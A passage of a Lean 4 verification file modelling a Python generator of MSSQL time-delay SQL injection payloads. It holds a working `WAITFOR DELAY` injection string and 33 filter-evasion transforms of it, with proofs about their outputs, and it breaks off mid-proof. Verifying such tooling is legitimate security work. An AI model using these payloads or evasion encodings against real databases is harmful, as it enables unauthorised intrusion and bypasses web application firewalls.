import Mathlib

set_option autoImplicit false
set_option maxRecDepth 8192

/-! Verification development for the MSSQL time-delay payload generator
(`mssql-generator.py`).  Strings are modelled as `List Char`; each Python
transform function is translated into a Lean definition of the same name.
Randomized transforms take an explicit randomness source `Nat → Bool`
(the design document prescribes an injected randomness-source parameter
for every randomized transform). -/

/-- Scanning step of Python `str.replace(old, new)` for a non-empty `old`:
at each position, if `old` is a prefix of the remaining text, emit `new` and
skip `old.length` characters, otherwise keep one character and advance.
`fuel` bounds the number of steps; `fuel = s.length` always suffices because
every step consumes at least one character of `s`. -/
def replaceAux (old new : List Char) : Nat → List Char → List Char
  | 0, s => s
  | _ + 1, [] => []
  | fuel + 1, c :: rest =>
    if old.isPrefixOf (c :: rest) then
      new ++ replaceAux old new fuel (List.drop old.length (c :: rest))
    else
      c :: replaceAux old new fuel rest

/-- Python `s.replace(old, new)`: replace every non-overlapping occurrence of
`old` in `s` by `new`, scanning left to right.  For the degenerate empty
`old`, Python interleaves `new` around every character. -/
def pyReplace (old new s : List Char) : List Char :=
  if old.isEmpty then new ++ s.foldr (fun c acc => c :: (new ++ acc)) []
  else replaceAux old new s.length s

/-- Base-`b` digit list of `n`, most significant first, via fuel recursion
(`fuel = n + 1` always suffices since the argument strictly decreases). -/
def digitsAux (b : Nat) : Nat → Nat → List Nat
  | 0, _ => []
  | fuel + 1, n => if n < b then [n] else digitsAux b fuel (n / b) ++ [n % b]

/-- Decimal digit character, as produced by Python decimal formatting. -/
def decChar (d : Nat) : Char := Char.ofNat (48 + d)

/-- Lowercase hexadecimal digit character (Python `x` format). -/
def hexCharLower (d : Nat) : Char :=
  if d < 10 then Char.ofNat (48 + d) else Char.ofNat (87 + d)

/-- Uppercase hexadecimal digit character (as produced by `urllib` percent
escapes). -/
def hexCharUpper (d : Nat) : Char :=
  if d < 10 then Char.ofNat (48 + d) else Char.ofNat (55 + d)

/-- Left-pad a digit list with zeros up to width `w`. -/
def padZero (w : Nat) (ds : List Nat) : List Nat :=
  List.replicate (w - ds.length) 0 ++ ds

/-- Python `str(n)` / `f-string` decimal rendering of a natural number. -/
def decRepr (n : Nat) : List Char := (digitsAux 10 (n + 1) n).map decChar

/-- Python `f-string` `0wx` rendering: lowercase hex, zero-padded to width
`w` (longer if the number needs more digits). -/
def hexPad (w : Nat) (n : Nat) : List Char :=
  (padZero w (digitsAux 16 (n + 1) n)).map hexCharLower

/-- Uppercase two-digits-or-more hex rendering used by percent escapes. -/
def hexPadUpper (w : Nat) (n : Nat) : List Char :=
  (padZero w (digitsAux 16 (n + 1) n)).map hexCharUpper

/-- UTF-8 byte sequence of one character (standard UTF-8 encoding). -/
def utf8Char (c : Char) : List Nat :=
  let n := c.toNat
  if n < 128 then [n]
  else if n < 2048 then [192 + n / 64, 128 + n % 64]
  else if n < 65536 then [224 + n / 4096, 128 + (n / 64) % 64, 128 + n % 64]
  else [240 + n / 262144, 128 + (n / 4096) % 64, 128 + (n / 64) % 64, 128 + n % 64]

/-- UTF-8 byte sequence of a string (Python `s.encode()`). -/
def utf8Encode (s : List Char) : List Nat := s.flatMap utf8Char

/-- Modelled from the spec: `urllib.parse.quote_plus` safe bytes under
standard form-encoding rules (ASCII letters, digits, and `_`, `.`, `-`,
`~` stay literal; the space becomes `+`; everything else is
percent-encoded). -/
def formSafe (b : Nat) : Bool :=
  (65 ≤ b && b ≤ 90) || (97 ≤ b && b ≤ 122) || (48 ≤ b && b ≤ 57) ||
    b == 95 || b == 46 || b == 45 || b == 126

/-- Modelled from the spec: `urllib.parse.quote_plus` — percent-encode all
characters unsafe in a URL query component, standard form-encoding rules,
spaces become `+`; non-safe bytes of the UTF-8 encoding become uppercase
`%XX` escapes. -/
def quotePlus (s : List Char) : List Char :=
  (utf8Encode s).flatMap (fun b =>
    if b == 32 then ['+']
    else if formSafe b then [Char.ofNat b]
    else '%' :: hexPadUpper 2 b)

/-- Hexadecimal value of one character, accepting both cases. -/
def hexVal (c : Char) : Option Nat :=
  if 48 ≤ c.toNat && c.toNat ≤ 57 then some (c.toNat - 48)
  else if 65 ≤ c.toNat && c.toNat ≤ 70 then some (c.toNat - 55)
  else if 97 ≤ c.toNat && c.toNat ≤ 102 then some (c.toNat - 87)
  else none

/-- Standard percent/form decoding to bytes: `+` becomes the space byte,
`%XX` becomes the byte `XX`, any other character stands for its own code
point. -/
def pctDecodeBytes : List Char → Option (List Nat)
  | [] => some []
  | '%' :: h1 :: h2 :: rest =>
    match hexVal h1, hexVal h2, pctDecodeBytes rest with
    | some a, some b, some bs => some ((16 * a + b) :: bs)
    | _, _, _ => none
  | '+' :: rest => (pctDecodeBytes rest).map (fun bs => 32 :: bs)
  | c :: rest => (pctDecodeBytes rest).map (fun bs => c.toNat :: bs)

/-- Standard UTF-8 decoding of a byte sequence. -/
def utf8Decode : List Nat → Option (List Char)
  | [] => some []
  | b1 :: rest =>
    if b1 < 128 then (utf8Decode rest).map (fun cs => Char.ofNat b1 :: cs)
    else if 192 ≤ b1 ∧ b1 < 224 then
      match rest with
      | b2 :: rest2 =>
        if 128 ≤ b2 ∧ b2 < 192 then
          (utf8Decode rest2).map (fun cs => Char.ofNat ((b1 - 192) * 64 + (b2 - 128)) :: cs)
        else none
      | [] => none
    else if 224 ≤ b1 ∧ b1 < 240 then
      match rest with
      | b2 :: b3 :: rest2 =>
        if 128 ≤ b2 ∧ b2 < 192 ∧ 128 ≤ b3 ∧ b3 < 192 then
          (utf8Decode rest2).map (fun cs =>
            Char.ofNat ((b1 - 224) * 4096 + (b2 - 128) * 64 + (b3 - 128)) :: cs)
        else none
      | _ => none
    else if 240 ≤ b1 ∧ b1 < 248 then
      match rest with
      | b2 :: b3 :: b4 :: rest2 =>
        if 128 ≤ b2 ∧ b2 < 192 ∧ 128 ≤ b3 ∧ b3 < 192 ∧ 128 ≤ b4 ∧ b4 < 192 then
          (utf8Decode rest2).map (fun cs =>
            Char.ofNat ((b1 - 240) * 262144 + (b2 - 128) * 4096 + (b3 - 128) * 64 + (b4 - 128)) :: cs)
        else none
      | _ => none
    else none

/-- Standard percent/form decoding of a string (bytes, then UTF-8). -/
def formDecode (s : List Char) : Option (List Char) :=
  (pctDecodeBytes s).bind utf8Decode

/-- Standard base64 alphabet character for a 6-bit value. -/
def b64Char (n : Nat) : Char :=
  if n < 26 then Char.ofNat (65 + n)
  else if n < 52 then Char.ofNat (97 + (n - 26))
  else if n < 62 then Char.ofNat (48 + (n - 52))
  else if n == 62 then '+' else '/'

/-- Modelled from the spec: `base64.b64encode` — standard base64 encoding
of a byte sequence, with `=` padding. -/
def b64encodeBytes : List Nat → List Char
  | [] => []
  | [b1] => [b64Char (b1 / 4), b64Char ((b1 % 4) * 16), '=', '=']
  | [b1, b2] => [b64Char (b1 / 4), b64Char ((b1 % 4) * 16 + b2 / 16), b64Char ((b2 % 16) * 4), '=']
  | b1 :: b2 :: b3 :: rest =>
    b64Char (b1 / 4) :: b64Char ((b1 % 4) * 16 + b2 / 16) ::
      b64Char ((b2 % 16) * 4 + b3 / 64) :: b64Char (b3 % 64) :: b64encodeBytes rest

/-- Six-bit value of a standard base64 alphabet character. -/
def b64Val (c : Char) : Option Nat :=
  if 65 ≤ c.toNat && c.toNat ≤ 90 then some (c.toNat - 65)
  else if 97 ≤ c.toNat && c.toNat ≤ 122 then some (c.toNat - 97 + 26)
  else if 48 ≤ c.toNat && c.toNat ≤ 57 then some (c.toNat - 48 + 52)
  else if c == '+' then some 62
  else if c == '/' then some 63
  else none

/-- Standard base64 decoding back to bytes; `none` on malformed input. -/
def b64decodeBytes : List Char → Option (List Nat)
  | [] => some []
  | [c1, c2, '=', '='] =>
    match b64Val c1, b64Val c2 with
    | some a, some b => if b % 16 == 0 then some [a * 4 + b / 16] else none
    | _, _ => none
  | [c1, c2, c3, '='] =>
    match b64Val c1, b64Val c2, b64Val c3 with
    | some a, some b, some c =>
      if c % 4 == 0 then some [a * 4 + b / 16, (b % 16) * 16 + c / 4] else none
    | _, _, _ => none
  | c1 :: c2 :: c3 :: c4 :: rest =>
    match b64Val c1, b64Val c2, b64Val c3, b64Val c4, b64decodeBytes rest with
    | some a, some b, some c, some d, some bs =>
      some ((a * 4 + b / 16) :: ((b % 16) * 16 + c / 4) :: ((c % 4) * 64 + d) :: bs)
    | _, _, _, _, _ => none
  | _ => none

/-- The canonical payload (module-level constant `base` of the source). -/
def base : List Char := "\x27; WAITFOR DELAY \x2700:00:05\x27--".data

/-- `url_encoded(s) = urllib.parse.quote_plus(s)`. -/
def url_encoded (s : List Char) : List Char := quotePlus s

/-- Per-character random casing with an explicit randomness source: draw
`f i` for the character at position `i`, uppercase on `true`, lowercase on
`false` (the loop body shared by `mixed_case_spaces` and `random_case`). -/
def randomize_case (f : Nat → Bool) (s : List Char) : List Char :=
  s.enum.map (fun p => if f p.1 then Char.toUpper p.2 else Char.toLower p.2)

/-- `mixed_case_spaces`: randomize letter case per character, then replace
`WAITFOR` by `WAiTfOr   ` and afterwards `DELAY` by `DeLaY ` on the result. -/
def mixed_case_spaces (f : Nat → Bool) (s : List Char) : List Char :=
  pyReplace "DELAY".data "DeLaY ".data
    (pyReplace "WAITFOR".data "WAiTfOr   ".data (randomize_case f s))

/-- `comment_before_parentheses`: insert `/**/` before every `(`. -/
def comment_before_parentheses (s : List Char) : List Char :=
  pyReplace "(".data "/**/(".data s

/-- `plus2concat`: replace `+` by `||`. -/
def plus2concat (s : List Char) : List Char := pyReplace "+".data "||".data s

/-- `plus2fnconcat`: replace `+` by `fn+`. -/
def plus2fnconcat (s : List Char) : List Char := pyReplace "+".data "fn+".data s

/-- `random_comments`: append `/**/` after every alphabetic character. -/
def random_comments (s : List Char) : List Char :=
  s.flatMap (fun c => if c.isAlpha then c :: "/**/".data else [c])

/-- `char_double_encode`: emit the two-digit lowercase hex value of every
character twice, each time percent-prefixed. -/
def char_double_encode (s : List Char) : List Char :=
  s.flatMap (fun c => ('%' :: hexPad 2 c.toNat) ++ ('%' :: hexPad 2 c.toNat))

/-- Join a list of chunks with the separator `+` (Python `'+'.join`). -/
def joinPlus : List (List Char) → List Char
  | [] => []
  | [t] => t
  | t :: r :: rest => t ++ '+' :: joinPlus (r :: rest)

/-- `charencode`: render the string as `CHAR(c1)+CHAR(c2)+...` with decimal
code points. -/
def charencode (s : List Char) : List Char :=
  joinPlus (s.map (fun c => "CHAR(".data ++ decRepr c.toNat ++ [')']))

/-- `charunicodeencode`: as `charencode` but with `NCHAR`. -/
def charunicodeencode (s : List Char) : List Char :=
  joinPlus (s.map (fun c => "NCHAR(".data ++ decRepr c.toNat ++ [')']))

/-- Modelled from the spec: `charunicodeescape` — emit each character as a
`\uXXXX` four-hex-digit zero-padded escape, concatenated with no separator.
The source line `f-string` contains a truncated `\uXXXX` escape (a single
backslash before `u`), which is a Python SyntaxError, so the source body
cannot be executed; this definition follows the documented intent. -/
def charunicodeescape (s : List Char) : List Char :=
  s.flatMap (fun c => '\\' :: 'u' :: hexPad 4 c.toNat)

/-- `apostrophe_mask`: replace every apostrophe by a double quote. -/
def apostrophe_mask (s : List Char) : List Char :=
  pyReplace "\x27".data "\x22".data s

/-- `apostrophenullencode`: replace every apostrophe by the concatenation
idiom apostrophe `+CHAR(0)+` apostrophe. -/
def apostrophenullencode (s : List Char) : List Char :=
  pyReplace "\x27".data "\x27+CHAR(0)+\x27".data s

/-- `append_nullbyte`: append one NUL character. -/
def append_nullbyte (s : List Char) : List Char := s ++ ['\x00']

/-- `base64_encode(s) = base64.b64encode(s.encode()).decode()`. -/
def base64_encode (s : List Char) : List Char := b64encodeBytes (utf8Encode s)

/-- `lowercase`: full-string lower casing (ASCII). -/
def lowercase (s : List Char) : List Char := s.map Char.toLower

/-- `uppercase`: full-string upper casing (ASCII). -/
def uppercase (s : List Char) : List Char := s.map Char.toUpper

/-- `random_case`: per-character independent random case choice. -/
def random_case (f : Nat → Bool) (s : List Char) : List Char :=
  randomize_case f s

/-- `space2comment`: replace every space by `/**/`. -/
def space2comment (s : List Char) : List Char := pyReplace " ".data "/**/".data s

/-- `space2dash`: replace every space by `--`. -/
def space2dash (s : List Char) : List Char := pyReplace " ".data "--".data s

/-- `space2hash`: replace every space by `#`. -/
def space2hash (s : List Char) : List Char := pyReplace " ".data "#".data s

/-- `space2morecomment`: replace every space by `/**//**/`. -/
def space2morecomment (s : List Char) : List Char :=
  pyReplace " ".data "/**//**/".data s

/-- `space2morehash`: replace every space by `##`. -/
def space2morehash (s : List Char) : List Char := pyReplace " ".data "##".data s

/-- `space2mssqlblank`: delete every space. -/
def space2mssqlblank (s : List Char) : List Char := pyReplace " ".data "".data s

/-- `space2mssqlhash`: replace every space by `#`. -/
def space2mssqlhash (s : List Char) : List Char := pyReplace " ".data "#".data s

/-- `space2mysqlblank`: delete every space. -/
def space2mysqlblank (s : List Char) : List Char := pyReplace " ".data "".data s

/-- `space2mysqldash`: replace every space by `--`. -/
def space2mysqldash (s : List Char) : List Char := pyReplace " ".data "--".data s

/-- `space2plus`: replace every space by `+`. -/
def space2plus (s : List Char) : List Char := pyReplace " ".data "+".data s

/-- `space2randomblank`: keep non-spaces; for the space at position `i`,
draw `f i` and either delete the space or keep it. -/
def space2randomblank (f : Nat → Bool) (s : List Char) : List Char :=
  s.enum.flatMap (fun p => if p.2 ≠ ' ' then [p.2] else if f p.1 then [] else [' '])

/-- `sleep2getlock`: replace `WAITFOR DELAY` by `WAITFOR GET_LOCK`. -/
def sleep2getlock (s : List Char) : List Char :=
  pyReplace "WAITFOR DELAY".data "WAITFOR GET_LOCK".data s

/-- `unionalltounion`: replace `UNION ALL` by `UNION`. -/
def unionalltounion (s : List Char) : List Char :=
  pyReplace "UNION ALL".data "UNION".data s

/-- `unmagicquotes`: replace backslash-apostrophe by a bare apostrophe. -/
def unmagicquotes (s : List Char) : List Char :=
  pyReplace "\\\x27".data "\x27".data s

/-- `d_union`: replace `UNION` by `DUNION`. -/
def d_union (s : List Char) : List Char := pyReplace "UNION".data "DUNION".data s

/-- The module-level `variants` list of the source, in declaration order:
the untransformed payload followed by each transform applied to the
payload.  `f`, `g`, `h` are the randomness sources consumed by the three
randomized entries. -/
def variants (f g h : Nat → Bool) : List (List Char) :=
  [ base,
    url_encoded base,
    mixed_case_spaces f base,
    comment_before_parentheses base,
    plus2concat base,
    plus2fnconcat base,
    random_comments base,
    char_double_encode base,
    charencode base,
    charunicodeencode base,
    charunicodeescape base,
    apostrophe_mask base,
    apostrophenullencode base,
    append_nullbyte base,
    base64_encode base,
    lowercase base,
    uppercase base,
    random_case g base,
    space2comment base,
    space2dash base,
    space2hash base,
    space2morecomment base,
    space2morehash base,
    space2mssqlblank base,
    space2mssqlhash base,
    space2mysqlblank base,
    space2mysqldash base,
    space2plus base,
    space2randomblank h base,
    sleep2getlock base,
    unionalltounion base,
    unmagicquotes base,
    d_union base ]

/-- Label `payload_i` of the `i`-th emitted block. -/
def payloadLabel (i : Nat) : List Char := "payload_".data ++ decRepr i

/-- The full labelled output of the program (`__main__`): one
`payload_i` block per entry of `variants`, numbered from 1 in list order,
followed by the `base64_plain` baseline block holding
`base64.b64encode(base.encode()).decode()`. -/
def generate_variants (f g h : Nat → Bool) : List (List Char × List Char) :=
  ((variants f g h).enum.map (fun p => (payloadLabel (p.1 + 1), p.2))) ++
    [("base64_plain".data, b64encodeBytes (utf8Encode base))]

/-- Boolean substring test: some suffix of `s` starts with `pat`. -/
def hasSubstr (pat s : List Char) : Bool :=
  (List.range (s.length + 1)).any (fun i => pat.isPrefixOf (s.drop i))

/-- Decimal value of a digit string (left fold over the digit characters). -/
def parseDec (cs : List Char) : Nat :=
  cs.foldl (fun a c => a * 10 + (c.toNat - 48)) 0

/-- One step of the `charencode` output parser: read one `CHAR(n)` term,
map it back to the character with code point `n`, and continue past a `+`
separator; `fuel` bounds the number of terms. -/
def charDecodeAux : Nat → List Char → Option (List Char)
  | 0, _ => none
  | fuel + 1, 'C' :: 'H' :: 'A' :: 'R' :: '(' :: rest =>
    match rest.dropWhile Char.isDigit with
    | [')'] =>
      if (rest.takeWhile Char.isDigit).isEmpty then none
      else some [Char.ofNat (parseDec (rest.takeWhile Char.isDigit))]
    | ')' :: '+' :: more =>
      if (rest.takeWhile Char.isDigit).isEmpty then none
      else (charDecodeAux fuel more).map
        (fun cs => Char.ofNat (parseDec (rest.takeWhile Char.isDigit)) :: cs)
    | _ => none
  | _ + 1, _ => none

/-- Parse a `charencode` result as a SQL concatenation of `CHAR(n)` terms
and map every term back to its character, concatenating the results. -/
def charDecode (s : List Char) : Option (List Char) :=
  if s.isEmpty then some [] else charDecodeAux s.length s

/-- C1 counterexample: with any concrete randomness source, the labelled
output of the program has 34 entries, not the 33 entries the claim states
(33 payload blocks from the `variants` list plus the `base64_plain`
baseline block). -/
theorem claim_C1_counterexample :
    (generate_variants (fun _ => true) (fun _ => true) (fun _ => true)).length = 34 ∧
      (generate_variants (fun _ => true) (fun _ => true) (fun _ => true)).length ≠ 33 := by
  exact ⟨rfl, by decide⟩

/-- C1 amended: for every behavior of the randomness sources, the program
emits the 33 entries of the `variants` list in catalog declaration order
(the untransformed payload first) followed by exactly one baseline entry
whose text is `base64_encode` of the untransformed payload — 34 entries in
total. -/
theorem claim_C1_thm (f g h : Nat → Bool) :
    (generate_variants f g h).length = 34 ∧
      (generate_variants f g h).map Prod.snd = variants f g h ++ [base64_encode base] ∧
      (variants f g h).length = 33 ∧
      (variants f g h).head? = some base ∧
      (generate_variants f g h).getLast? = some ("base64_plain".data, base64_encode base) :=
  ⟨rfl, rfl, rfl, rfl, rfl⟩

/-- C2 counterexample: when the randomness source always chooses lowercase,
`mixed_case_spaces` of the canonical payload contains neither forced
substring — the normalization only rewrites the exact uppercase literals,
which do not survive an all-lowercase randomization. -/
theorem claim_C2_counterexample :
    hasSubstr "WAiTfOr   ".data (mixed_case_spaces (fun _ => false) base) = false ∧
      hasSubstr "DeLaY ".data (mixed_case_spaces (fun _ => false) base) = false := by
  decide

/-- C2 amended: the forced-substring normalization runs after per-character
case randomization, but it rewrites only surviving occurrences of the exact
uppercase literals; when the randomness source chooses uppercase for every
character, the output on the canonical payload contains both literal
substrings `WAiTfOr   ` and `DeLaY `. -/
theorem claim_C2_thm :
    hasSubstr "WAiTfOr   ".data (mixed_case_spaces (fun _ => true) base) = true ∧
      hasSubstr "DeLaY ".data (mixed_case_spaces (fun _ => true) base) = true := by
  decide

/-- C3: the intended `charunicodeescape` (the source line itself is an
ill-formed Python f-string and cannot run) emits for each character of the
canonical payload a backslash-u escape of exactly four zero-padded lowercase
hex digits, concatenated with no separator: six output characters per input
character. -/
theorem claim_C3_thm :
    charunicodeescape base =
      ("\\u0027\\u003b\\u0020\\u0057\\u0041\\u0049\\u0054\\u0046\\u004f\\u0052" ++
        "\\u0020\\u0044\\u0045\\u004c\\u0041\\u0059\\u0020\\u0027\\u0030\\u0030" ++
        "\\u003a\\u0030\\u0030\\u003a\\u0030\\u0035\\u0027\\u002d\\u002d").data ∧
      (charunicodeescape base).length = 6 * base.length := by
  decide

/-- C5: `url_encoded` of the canonical payload percent-encodes every
form-unsafe character with uppercase escapes, turns spaces into `+`, and a
standard percent/form decoder maps the result back to the exact original
string. -/
theorem claim_C5_thm :
    url_encoded base = "%27%3B+WAITFOR+DELAY+%2700%3A00%3A05%27--".data ∧
      formDecode (url_encoded base) = some base := by
  decide

/-- C6: `base64_encode` of the canonical payload is the standard base64
rendering of its UTF-8 bytes, and standard base64 decoding maps it back to
exactly those bytes. -/
theorem claim_C6_thm :
    base64_encode base = "JzsgV0FJVEZPUiBERUxBWSAnMDA6MDA6MDUnLS0=".data ∧
      b64decodeBytes (base64_encode base) = some (utf8Encode base) := by
  decide

/-- C7 counterexample: `d_union` applied to the fixed string
`UNION ALL SELECT` does not yield `DUNION SELECT` — the replace-all rewrite
`UNION` to `DUNION` keeps the ` ALL` part, yielding `DUNION ALL SELECT`. -/
theorem claim_C7_counterexample :
    d_union "UNION ALL SELECT".data ≠ "DUNION SELECT".data := by
  decide

/-- C7 amended: `unionalltounion` on `UNION ALL SELECT` yields
`UNION SELECT`, and `d_union` on that same fixed string yields
`DUNION ALL SELECT`; both are deterministic, case-sensitive, replace-all
substring rewrites. -/
theorem claim_C7_thm :
    unionalltounion "UNION ALL SELECT".data = "UNION SELECT".data ∧
      d_union "UNION ALL SELECT".data = "DUNION ALL SELECT".data := by
  decide

/-- C9: with the intended `charunicodeescape` in place of the ill-formed
source line, every transform of the catalog terminates with a definite
string on the canonical payload: the 33 catalog entries evaluate to strings
of these exact lengths. -/
theorem claim_C9_thm :
    (variants (fun _ => true) (fun _ => true) (fun _ => true)).map List.length =
      [29, 41, 33, 29, 29, 29, 77, 174, 260, 289, 174, 29, 59, 30, 40, 29, 29,
        29, 38, 32, 29, 50, 32, 26, 29, 26, 32, 29, 26, 32, 29, 29, 29] := by
  decide

/-- C10: the catalog contains distinct named entries computing extensionally
equal functions: `space2hash` and `space2mssqlhash` agree on every input,
as do `space2mssqlblank` and `space2mysqlblank`, and `space2dash` and
`space2mysqldash`. -/
theorem claim_C10_thm (s : List Char) :
    space2hash s = space2mssqlhash s ∧
      space2mssqlblank s = space2mysqlblank s ∧
      space2dash s = space2mysqldash s :=
  ⟨rfl, rfl, rfl⟩

/-- Helper: every digit produced by the base-10 digit expansion is below 10. -/
theorem digitsAux_lt (fuel n : Nat) : ∀ d ∈ digitsAux 10 fuel n, d < 10 := by
  induction fuel generalizing n with
  | zero => intro d hd; simp [digitsAux] at hd
  | succ fuel ih =>
    intro d hd
    by_cases h : n < 10
    · simp only [digitsAux, if_pos h, List.mem_singleton] at hd
      omega
    · simp only [digitsAux, if_neg h, List.mem_append, List.mem_singleton] at hd
      rcases hd with h1 | h1
      · exact ih (n / 10) d h1
      · omega

/-- Helper: folding the base-10 digits back up recovers the number. -/
theorem digitsAux_foldl (fuel n : Nat) (h : n < fuel) :
    (digitsAux 10 fuel n).foldl (fun a d => a * 10 + d) 0 = n := by
  induction fuel generalizing n with
  | zero => omega
  | succ fuel ih =>
    by_cases h10 : n < 10
    · simp only [digitsAux, if_pos h10, List.foldl_cons, List.foldl_nil]
      omega
    · have hlt : n / 10 < n := Nat.div_lt_self (by omega) (by omega)
      have hdiv : n / 10 < fuel := by omega
      simp only [digitsAux, if_neg h10, List.foldl_append, ih (n / 10) hdiv,
        List.foldl_cons, List.foldl_nil]
      omega

/-- Helper: code point of a decimal digit character. -/
theorem decChar_toNat : ∀ d : Nat, d < 10 → (decChar d).toNat = 48 + d := by
  decide

/-- Helper: a decimal digit character satisfies `Char.isDigit`. -/
theorem decChar_isDigit : ∀ d : Nat, d < 10 → (decChar d).isDigit = true := by
  decide

/-- Helper: parsing the decimal rendering of `n` recovers `n`. -/
theorem parseDec_decRepr (n : Nat) : parseDec (decRepr n) = n := by
  unfold parseDec decRepr
  rw [List.foldl_map]
  have hlt := digitsAux_lt (n + 1) n
  have hext : ((digitsAux 10 (n + 1) n).foldl
        (fun a d => a * 10 + ((decChar d).toNat - 48)) 0)
      = ((digitsAux 10 (n + 1) n).foldl (fun a d => a * 10 + d) 0) := by
    apply List.foldl_ext
    intro a d hd
    rw [decChar_toNat d (hlt d hd)]
    omega
  rw [hext, digitsAux_foldl (n + 1) n (Nat.lt_succ_self n)]

/-- Helper: every character of a decimal rendering is a digit. -/
theorem decRepr_isDigit (n : Nat) : ∀ c ∈ decRepr n, c.isDigit = true := by
  intro c hc
  unfold decRepr at hc
  rcases List.mem_map.1 hc with ⟨d, hd, rfl⟩
  exact decChar_isDigit d (digitsAux_lt (n + 1) n d hd)

/-- Helper: a decimal rendering is never empty. -/
theorem decRepr_ne_nil (n : Nat) : decRepr n ≠ [] := by
  unfold decRepr
  simp only [digitsAux]
  split <;> simp

/-- Helper: a decimal rendering has `isEmpty = false`. -/
theorem decRepr_isEmpty (n : Nat) : (decRepr n).isEmpty = false := by
  cases hh : decRepr n with
  | nil => exact absurd hh (decRepr_ne_nil n)
  | cons a l => rfl

/-- Helper: `takeWhile` and `dropWhile` split a list of satisfying elements
followed by a failing element exactly at that element. -/
theorem takeWhile_all_head_neg {α : Type} (p : α → Bool) :
    ∀ (xs : List α) (y : α) (tl : List α), (∀ x ∈ xs, p x = true) → p y = false →
      (xs ++ y :: tl).takeWhile p = xs ∧ (xs ++ y :: tl).dropWhile p = y :: tl := by
  intro xs
  induction xs with
  | nil =>
    intro y tl _ hy
    constructor
    · simp [List.takeWhile_cons, hy]
    · simp [List.dropWhile_cons, hy]
  | cons x xs ih =>
    intro y tl hxs hy
    have hx : p x = true := hxs x (List.mem_cons_self x xs)
    have hrec := ih y tl (fun z hz => hxs z (List.mem_cons_of_mem x hz)) hy
    constructor
    · simp only [List.cons_append, List.takeWhile_cons, hx, if_true, hrec.1]
    · simp only [List.cons_append, List.dropWhile_cons, hx, if_true, hrec.2]

/-- Helper: the `charencode` rendering is at least as long as its input. -/
theorem charencode_length (s : List Char) : s.length ≤ (charencode s).length := by
  induction s with
  | nil => simp [charencode, joinPlus]
  | cons c s ih =>
    cases s with
    | nil =>
      have h : charencode [c] = "CHAR(".data ++ decRepr c.toNat ++ [')'] := rfl
      rw [h]
      simp only [List.length_append, List.length_cons, List.length_nil]
      omega
    | cons d s' =>
      have h : charencode (c :: d :: s') =
          ("CHAR(".data ++ decRepr c.toNat ++ [')']) ++ '+' :: charencode (d :: s') := rfl
      rw [h]
      have ih' := ih
      simp only [List.length_cons] at ih'
      simp only [List.length_append, List.length_cons]
      omega

/-- Helper: with enough fuel, parsing the `charencode` rendering of a
non-empty string recovers the string. -/
theorem charDecodeAux_charencode :
    ∀ (s : List Char) (fuel : Nat), s ≠ [] → s.length ≤ fuel →
      charDecodeAux fuel (charencode s) = some s := by
  intro s
  induction s with
  | nil => intro fuel h _; exact absurd rfl h
  | cons c s ih =>
    intro fuel _ hlen
    cases fuel with
    | zero => simp at hlen
    | succ fuel =>
      have hd : ∀ x ∈ decRepr c.toNat, Char.isDigit x = true := decRepr_isDigit c.toNat
      have hrp : Char.isDigit ')' = false := by decide
      cases s with
      | nil =>
        have he : charencode [c] = "CHAR(".data ++ (decRepr c.toNat ++ [')']) := by
          have h0 : charencode [c] = "CHAR(".data ++ decRepr c.toNat ++ [')'] := rfl
          rw [h0, List.append_assoc]
        rw [he]
        show charDecodeAux (fuel + 1)
            ('C' :: 'H' :: 'A' :: 'R' :: '(' :: (decRepr c.toNat ++ [')'])) = some [c]
        have htw := takeWhile_all_head_neg Char.isDigit (decRepr c.toNat) ')' [] hd hrp
        simp only [charDecodeAux, htw.1, htw.2, decRepr_isEmpty, parseDec_decRepr,
          Char.ofNat_toNat, Bool.false_eq_true, if_false]
      | cons d s' =>
        have he : charencode (c :: d :: s') =
            "CHAR(".data ++ (decRepr c.toNat ++ ')' :: '+' :: charencode (d :: s')) := by
          have h0 : charencode (c :: d :: s') =
              ("CHAR(".data ++ decRepr c.toNat ++ [')']) ++ '+' :: charencode (d :: s') := rfl
          rw [h0, List.append_assoc, List.append_assoc]
          rfl
        rw [he]
        show charDecodeAux (fuel + 1)
            ('C' :: 'H' :: 'A' :: 'R' :: '(' ::
              (decRepr c.toNat ++ ')' :: '+' :: charencode (d :: s'))) = some (c :: d :: s')
        have htw := takeWhile_all_head_neg Char.isDigit (decRepr c.toNat) ')'
          ('+' :: charencode (d :: s')) hd hrp
        have hrec : charDecodeAux fuel (charencode (d :: s')) = some (d :: s') := by
          apply ih fuel (List.cons_ne_nil d s')
          simp only [List.length_cons] at hlen ⊢
          omega
        simp only [charDecodeAux, htw.1, htw.2, decRepr_isEmpty, parseDec_decRepr,
          Char.ofNat_toNat, hrec, Option.map_some', Bool.false_eq_true, if_false]

/-- C4: for every input string whose characters all have code point at most
255, parsing the `charencode` rendering as a SQL concatenation of `CHAR(n)`
terms and mapping every term back to its character reproduces the input
exactly. -/
theorem claim_C4_thm (s : List Char) (h : ∀ c ∈ s, c.toNat ≤ 255) :
    charDecode (charencode s) = some s := by
  cases s with
  | nil => rfl
  | cons c s' =>
    have hne : (c :: s') ≠ [] := List.cons_ne_nil c s'
    have hlen := charencode_length (c :: s')
    have hE : (charencode (c :: s')).isEmpty = false := by
      cases hh : charencode (c :: s') with
      | nil => rw [hh] at hlen; simp at hlen
      | cons a l => rfl
    unfold charDecode
    rw [hE]
    simp only [Bool.false_eq_true, if_false]
    exact charDecodeAux_charencode (c :: s') (charencode (c :: s')).length hne hlen

/-- C4 witness: the canonical payload is within the single-byte range and
round-trips through `charencode` and the term-wise decoder. -/
theorem claim_C4_witness :
    (∀ c ∈ base, c.toNat ≤ 255) ∧ charDecode (charencode base) = some base :=
  ⟨by decide, claim_C4_thm base (by decide)⟩

/-- Helper: for a single-character pattern, the replace scanner is a simple
character-wise fold. -/
theorem replaceAux_single (a : Char) (new : List Char) :
    ∀ (fuel : Nat) (s : List Char), s.length ≤ fuel →
      replaceAux [a] new fuel s =
        s.foldr (fun c acc => if c = a then new ++ acc else c :: acc) [] := by
  intro fuel
  induction fuel with
  | zero =>
    intro s hs
    have hnil : s = [] := List.length_eq_zero.1 (Nat.le_zero.1 hs)
    subst hnil
    rfl
  | succ fuel ih =>
    intro s hs
    cases s with
    | nil => rfl
    | cons c rest =>
      have hr : rest.length ≤ fuel := by
        simp only [List.length_cons] at hs
        omega
      by_cases hca : c = a
      · subst hca
        have hpre : ([c].isPrefixOf (c :: rest)) = true := by
          simp [List.isPrefixOf]
        simp only [replaceAux, hpre, if_true, List.length_cons, List.length_nil,
          List.drop_succ_cons, List.drop_zero, List.foldr_cons, if_pos rfl, ih rest hr]
      · have hpre : ([a].isPrefixOf (c :: rest)) = false := by
